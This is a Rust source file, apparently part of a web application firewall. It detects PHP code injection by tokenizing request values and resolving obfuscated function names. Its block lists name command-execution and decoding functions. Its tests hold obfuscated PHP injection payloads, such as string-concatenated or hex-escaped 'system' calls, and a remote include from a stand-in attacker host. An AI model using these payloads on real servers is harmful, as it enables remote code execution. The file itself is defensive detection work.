//! PHP code judged by PHP's grammar (rules 6003 and 6004; variables in `php_vars`).
//!
//! Signatures see `eval(` and `<?php`; PHP accepts much more. The value is read as PHP tokens:
//! whitespace and comments (`/* */`, `#`, `//`) are nothing, string literals are their decoded
//! text (`\x..` and octal escapes undone), and a callee may be any expression that folds to a
//! name: a bare word, a string, a concatenation (`'sys'.'tem'`), one in parentheses or in a
//! one-element array indexed by 0 (`[system][0]`), after a `(string)` cast, or a variable or
//! constant assigned such a name earlier in the value (`$y='sys'.'tem';($y)(...)`). The value
//! is an attack when such a callee names a function that runs code or commands, or reads,
//! writes or decodes what an attacker sends, and is followed by an argument list. Names that are
//! also English words (`file`, `copy`, `mail`) need an argument list PHP would parse.
//!
//! Rule 6004 reads PHP open tags: `<?php`, `<?=`, a short tag `<?` before code, and the `[php]`
//! tags of forum software; XML declarations and processing instructions (`<?xml`,
//! `<?xpacket`, `<?xml-stylesheet`) are not PHP.

use super::prefix;
use crate::request::Location;

/// Longest prefix of a value that is examined.
const MAX_SCAN: usize = 4096;

/// Functions that run code or commands, or are what obfuscated payloads decode with: a call
/// with any argument list is PHP.
const STRONG: &[&str] = &[
    "eval",
    "assert",
    "assert_options",
    "system",
    "exec",
    "shell_exec",
    "passthru",
    "popen",
    "proc_open",
    "pcntl_exec",
    "create_function",
    "call_user_func",
    "call_user_func_array",
    "preg_replace",
    "phpinfo",
    "base64_decode",
    "gzinflate",
    "gzuncompress",
    "gzdecode",
    "zlib_decode",
    "bzdecompress",
    "str_rot13",
    "strrev",
    "hex2bin",
    "unserialize",
    "file_get_contents",
    "file_put_contents",
    "fopen",
    "fsockopen",
    "pfsockopen",
    "stream_socket_client",
    "curl_exec",
    "curl_init",
    "move_uploaded_file",
    "readfile",
    "highlight_file",
    "show_source",
    "get_defined_vars",
    "get_defined_functions",
    "ini_set",
    "putenv",
    "posix_getegid",
    "posix_geteuid",
    "posix_getpwuid",
    "posix_kill",
    "posix_setuid",
    "array_map",
    "array_filter",
    "usort",
    "register_shutdown_function",
];

/// Language constructs that load a file: a call is PHP when it loads from a variable or a URL
/// (`require('./config.json')` is JavaScript as much as PHP).
const LOADERS: &[&str] = &["include", "include_once", "require", "require_once"];

/// Functions whose names are English words: a call needs an argument list PHP would parse.
const WORDS: &[&str] = &[
    "file",
    "copy",
    "link",
    "symlink",
    "touch",
    "rename",
    "unlink",
    "mail",
    "glob",
    "extract",
    "chr",
    "ord",
    "print_r",
    "var_dump",
    "fwrite",
    "fputs",
    "fread",
    "filegroup",
    "fileowner",
    "fileperms",
    "scandir",
    "opendir",
    "dl",
    "header",
    "chmod",
    "chown",
    "mkdir",
    "rmdir",
];

/// A PHP token.
#[derive(Debug, Clone, PartialEq)]
pub(super) enum Tok {
    /// A bare word.
    Word(String),
    /// A variable `$name`.
    Var(String),
    /// A string literal, decoded.
    Str(String),
    /// A number.
    Num(String),
    /// Punctuation.
    P(char),
}

/// Rule 6003: a call of a dangerous PHP function through any callee expression that folds to
/// its name.
pub(crate) fn dangerous_call(v: &str, _loc: Location) -> bool {
    let v = prefix(v, MAX_SCAN);
    if !may_call(v.as_bytes()) {
        return false;
    }
    let toks = tokens(v);
    let gap = v.contains(['\r', '\n', '\t', '#']) || v.contains("/*") || v.contains("//");
    let mut names: Vec<(String, String)> = Vec::new();
    let mut i = 0;
    while i < toks.len() {
        // `$y = <name>;` and `define('y', <name>)` give a name to a callee.
        if let (Tok::Var(n), Some(Tok::P('='))) = (&toks[i], toks.get(i + 1)) {
            if let Some((s, _)) = fold(&toks, i + 2, &names) {
                names.push((format!("${n}"), s));
            }
        }
        if let (Tok::Word(w), Some(Tok::P('(')), Some(Tok::Str(n)), Some(Tok::P(','))) =
            (&toks[i], toks.get(i + 1), toks.get(i + 2), toks.get(i + 3))
        {
            if w.eq_ignore_ascii_case("define") {
                if let Some((s, _)) = fold(&toks, i + 4, &names) {
                    names.push((n.clone(), s));
                }
            }
        }
        if let Some((name, end)) = fold(&toks, i, &names) {
            if toks.get(end) == Some(&Tok::P('(')) && called(&name, &toks[end + 1..], gap) {
                return true;
            }
        }
        i += 1;
    }
    false
}

/// Whether some `(` of `b` may open the arguments of a call: what precedes it (blanks
/// skipped) can end a callee: anything but digits (`Mozilla/5.0 (X11`, `537.36 (KHTML`) or
/// nothing. A prefilter of [`dangerous_call`]: it rules out the parentheses of prose and
/// user agents without tokenizing them.
fn may_call(b: &[u8]) -> bool {
    memchr::memchr_iter(b'(', b).any(|i| {
        let before = &b[..i];
        let end = before
            .iter()
            .rposition(|c| !c.is_ascii_whitespace())
            .map_or(0, |e| e + 1);
        let run = before[..end]
            .iter()
            .rev()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
            .count();
        match (end, run) {
            (0, _) => false,
            // Not a word: a quote, `)`, `]`, `}`, a comment's end, a non-ASCII byte...
            (_, 0) => true,
            // A word: a callee unless it is all digits (a number, or a decimal's last part).
            _ => !before[end - run..end].iter().all(u8::is_ascii_digit),
        }
    })
}

/// Whether a call of `name` with the tokens after its `(` is a dangerous call. `gap`: the
/// value hides a call behind comments or control whitespace (`exec /*x*/ ()`).
fn called(name: &str, args: &[Tok], gap: bool) -> bool {
    let n = name.trim().to_ascii_lowercase();
    if LOADERS.contains(&n.as_str()) {
        return match args.first() {
            Some(Tok::Var(_)) => true,
            Some(Tok::Str(s)) => s.contains("://"),
            _ => false,
        };
    }
    // An empty argument list: prose names functions that way (`exec()`), so it takes a PHP
    // built-in name (`base64_decode()`, `phpinfo()`) or a hidden call.
    if matches!(args.first(), Some(Tok::P(')')) | None) {
        let builtin = n.contains('_') || n == "phpinfo";
        return (STRONG.contains(&n.as_str()) && (builtin || gap))
            || (WORDS.contains(&n.as_str()) && gap);
    }
    // An argument list PHP would parse, not a remark in parentheses: a variable, a string, a
    // number; for the strong names also one bare word (`system(whoami)`) or a call.
    let literal = matches!(args.first(), Some(Tok::Var(_) | Tok::Str(_) | Tok::Num(_)));
    let word = matches!(args.first(), Some(Tok::Word(_)))
        && matches!(args.get(1), Some(Tok::P(')' | '(' | ',' | '.' | ';')));
    if STRONG.contains(&n.as_str()) {
        return literal || word;
    }
    WORDS.contains(&n.as_str()) && literal
}

/// The name an expression starting at token `i` folds to, and the index after it.
fn fold(t: &[Tok], i: usize, names: &[(String, String)]) -> Option<(String, usize)> {
    let (mut s, mut j) = atom(t, i, names, 0)?;
    while t.get(j) == Some(&Tok::P('.')) {
        let (s2, j2) = atom(t, j + 1, names, 0)?;
        s.push_str(&s2);
        j = j2;
    }
    Some((s, j))
}

/// One operand of a name expression.
fn atom(t: &[Tok], i: usize, names: &[(String, String)], depth: u8) -> Option<(String, usize)> {
    if depth > 8 {
        return None;
    }
    let (s, mut j) = match t.get(i)? {
        Tok::Word(w) => {
            let v = names.iter().rev().find(|(k, _)| k == w).map(|(_, v)| v);
            (v.cloned().unwrap_or_else(|| w.clone()), i + 1)
        }
        Tok::Str(s) => (s.clone(), i + 1),
        Tok::Var(n) => {
            let key = format!("${n}");
            let v = names.iter().rev().find(|(k, _)| *k == key)?;
            (v.1.clone(), i + 1)
        }
        Tok::P('@') => return atom(t, i + 1, names, depth + 1),
        Tok::P(open @ ('(' | '[' | '{')) => {
            let close = match open {
                '(' => ')',
                '[' => ']',
                _ => '}',
            };
            // `(string)` cast before an operand.
            if *open == '(' {
                if let (Some(Tok::Word(w)), Some(Tok::P(')'))) = (t.get(i + 1), t.get(i + 2)) {
                    if w.eq_ignore_ascii_case("string") {
                        return atom(t, i + 3, names, depth + 1);
                    }
                }
            }
            let (inner, k) = fold_at(t, i + 1, names, depth + 1)?;
            if t.get(k) != Some(&Tok::P(close)) {
                return None;
            }
            (inner, k + 1)
        }
        _ => return None,
    };
    // `[name][0]`, `{name}{0}`: the one element of a one-element array.
    while let (Some(Tok::P(o @ ('[' | '{'))), Some(Tok::Num(n)), Some(Tok::P(c))) =
        (t.get(j), t.get(j + 1), t.get(j + 2))
    {
        if n != "0" || *c != if *o == '[' { ']' } else { '}' } {
            break;
        }
        j += 3;
    }
    Some((s, j))
}

/// [`fold`] with a depth bound, for nested operands.
fn fold_at(t: &[Tok], i: usize, names: &[(String, String)], depth: u8) -> Option<(String, usize)> {
    let (mut s, mut j) = atom(t, i, names, depth)?;
    while t.get(j) == Some(&Tok::P('.')) {
        let (s2, j2) = atom(t, j + 1, names, depth)?;
        s.push_str(&s2);
        j = j2;
    }
    Some((s, j))
}

/// The PHP tokens of `v`, whitespace and comments dropped.
pub(super) fn tokens(v: &str) -> Vec<Tok> {
    let b = v.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        if c.is_ascii_whitespace() {
            i += 1;
        } else if c == b'/' && b.get(i + 1) == Some(&b'*') {
            i = v[i + 2..].find("*/").map_or(b.len(), |e| i + 2 + e + 2);
        } else if c == b'#' || (c == b'/' && b.get(i + 1) == Some(&b'/')) {
            i = v[i..].find('\n').map_or(b.len(), |e| i + e + 1);
        } else if c == b'\'' || c == b'"' {
            let (s, end) = string(v, i);
            out.push(Tok::Str(s));
            i = end;
        } else if c == b'$' {
            let n = ident_len(&b[i + 1..]);
            out.push(if n == 0 {
                Tok::P('$')
            } else {
                Tok::Var(v[i + 1..i + 1 + n].to_string())
            });
            i += 1 + n;
        } else if c.is_ascii_digit() {
            let n = b[i..].iter().take_while(|c| c.is_ascii_digit()).count();
            out.push(Tok::Num(v[i..i + n].to_string()));
            i += n;
        } else if ident_len(&b[i..]) > 0 {
            let n = ident_len(&b[i..]);
            out.push(Tok::Word(v[i..i + n].to_string()));
            i += n;
        } else {
            let ch = v[i..].chars().next().unwrap_or('\0');
            out.push(Tok::P(ch));
            i += ch.len_utf8();
        }
    }
    out
}

/// Length of the identifier at the start of `b`.
fn ident_len(b: &[u8]) -> usize {
    if !b
        .first()
        .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
    {
        return 0;
    }
    b.iter()
        .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
        .count()
}

/// The string literal opening at `i`: its decoded text and the index after it.
fn string(v: &str, i: usize) -> (String, usize) {
    let b = v.as_bytes();
    let q = b[i];
    let mut s = String::new();
    let mut j = i + 1;
    while j < b.len() && b[j] != q {
        if b[j] == b'\\' && j + 1 < b.len() {
            let e = b[j + 1];
            if q == b'"' && e == b'x' {
                let h: String = v[j + 2..]
                    .chars()
                    .take(2)
                    .take_while(char::is_ascii_hexdigit)
                    .collect();
                if let Ok(x) = u8::from_str_radix(&h, 16) {
                    s.push(char::from(x));
                    j += 2 + h.len();
                    continue;
                }
            }
            if q == b'"' && (b'0'..=b'7').contains(&e) {
                let o: String = v[j + 1..]
                    .chars()
                    .take(3)
                    .take_while(|c| ('0'..='7').contains(c))
                    .collect();
                if let Ok(x) = u8::from_str_radix(&o, 8) {
                    s.push(char::from(x));
                    j += 1 + o.len();
                    continue;
                }
            }
            // Any other escape stands for the character after the backslash.
            let ch = v[j + 1..].chars().next().unwrap_or('\0');
            s.push(ch);
            j += 1 + ch.len_utf8();
            continue;
        }
        let ch = v[j..].chars().next().unwrap_or('\0');
        s.push(ch);
        j += ch.len_utf8();
    }
    (s, (j + 1).min(b.len()))
}

/// Rule 6004: a PHP open tag before code.
pub(crate) fn open_tag(v: &str, _loc: Location) -> bool {
    let v = prefix(v, MAX_SCAN);
    let b = v.as_bytes();
    let tag = memchr::memchr_iter(b'<', b).any(|i| b.get(i + 1) == Some(&b'?'));
    let bracket = memchr::memchr_iter(b']', b)
        .any(|i| i >= 3 && (&b[i - 3..i] == b"php" || &b[i - 3..i] == b"PHP"));
    if !tag && !bracket {
        return false;
    }
    let l = v.to_ascii_lowercase();
    if l.contains("[php]") || l.contains("[/php]") {
        return true;
    }
    l.match_indices("<?").any(|(i, _)| {
        let rest = &l[i + 2..];
        let word: String = rest
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '-' || *c == '_')
            .collect();
        if rest.starts_with('=') || word == "php" {
            return true;
        }
        if word.starts_with("xml") || word.starts_with("xpacket") || word.starts_with("xsl") {
            return false;
        }
        // A short tag: `<?` (and a word, `<?echo`) before code.
        code_start(rest[word.len()..].trim_start())
    })
}

/// Whether `s` starts like a PHP statement: a variable, a call, a string or `;`, or a word
/// followed by one of them (`echo 'x'`, `system(`).
fn code_start(s: &str) -> bool {
    const CODE: [char; 5] = ['$', '(', '\'', '"', ';'];
    if s.starts_with(CODE) {
        return true;
    }
    let w = s
        .bytes()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == b'_')
        .count();
    w > 0 && s[w..].trim_start().starts_with(CODE)
}

#[cfg(test)]
mod tests {
    use super::*;

    const Q: Location = Location::QueryArg;

    #[test]
    fn calls_through_folded_callees_fire() {
        for v in [
            "system(whoami)",
            "eval($foo)",
            "eval\r($foo)",
            "exec /*c*/ ()",
            "exec #x\n ('ls')",
            "exec // x\n (blah)",
            "(\"system\")(\"whoami\")",
            "('system')('whoami')",
            "(system)(ls);",
            "[system][0](ls);",
            "\"\\x73y\\x73tem\"(ls);",
            "(sy.(st).em)('uname');",
            "(string)\"sys\".\"t\".\"em\" ('uname');",
            "$y = 'sys'.'tem';($y)('uname');",
            "define('x', 'sys' . 'tem');(x)/* c */('uname');",
            "@exec('test')",
            "return\"system\"(xyz).s",
            "base64_decode(",
            "file($f)",
            "x=eval(chr(112).chr(104))",
            "require($_GET['file']);",
            "include('http://evil.example/x.txt')",
            "assert_OptionS (\n\n)",
            "get_defined_functions()[0]",
            "phpinfo()",
        ] {
            assert!(dangerous_call(v, Q), "{v}");
        }
    }

    #[test]
    fn prose_and_code_snippets_pass() {
        for v in [
            "the files (yep)",
            "this is a \"dog\" (not a cat)",
            "(foo)bar or foo(bar) or [foo]bar",
            "ceiling height(9ft)",
            "Upload a file (max 2MB)",
            "send us mail (we answer)",
            "Moreover, phpinfo can leak details",
            "A loaded ghost gun (unserialized) was recovered",
            "the system (as designed) works",
            "print(\"hello\")",
            "copy (paste) and go",
            "Require a module like `require()` but from a given path",
            "var config = require('./config.json');",
            "Wrap a Node.js spawn() or exec() with before/after handlers",
            "safely exec()-cuting dynamic code",
            "Modular bash using require(3)",
        ] {
            assert!(!dangerous_call(v, Q), "{v}");
        }
    }

    #[test]
    fn open_tags_fire_and_xml_declarations_pass() {
        for v in [
            "<?php system('id'); ?>",
            "<?=$_GET['x']?>",
            "<? echo 'hello'; ?>",
            "<?\nsystem('id');?>",
            "<?echo \"test\";?>",
            "[php]echo 'test';[/php]",
            "<?PHP echo 1;",
        ] {
            assert!(open_tag(v, Q), "{v}");
        }
        for v in [
            "<?xml version=\"1.0\"?><svg></svg>",
            "<?xpacket begin=\"?\" id=\"x\"?>",
            "<?xml-stylesheet type=\"text/xsl\" href=\"s.xsl\"?>",
            "result = (x < 5) ? yes : no",
            "is a<?b",
        ] {
            assert!(!open_tag(v, Q), "{v}");
        }
    }
}
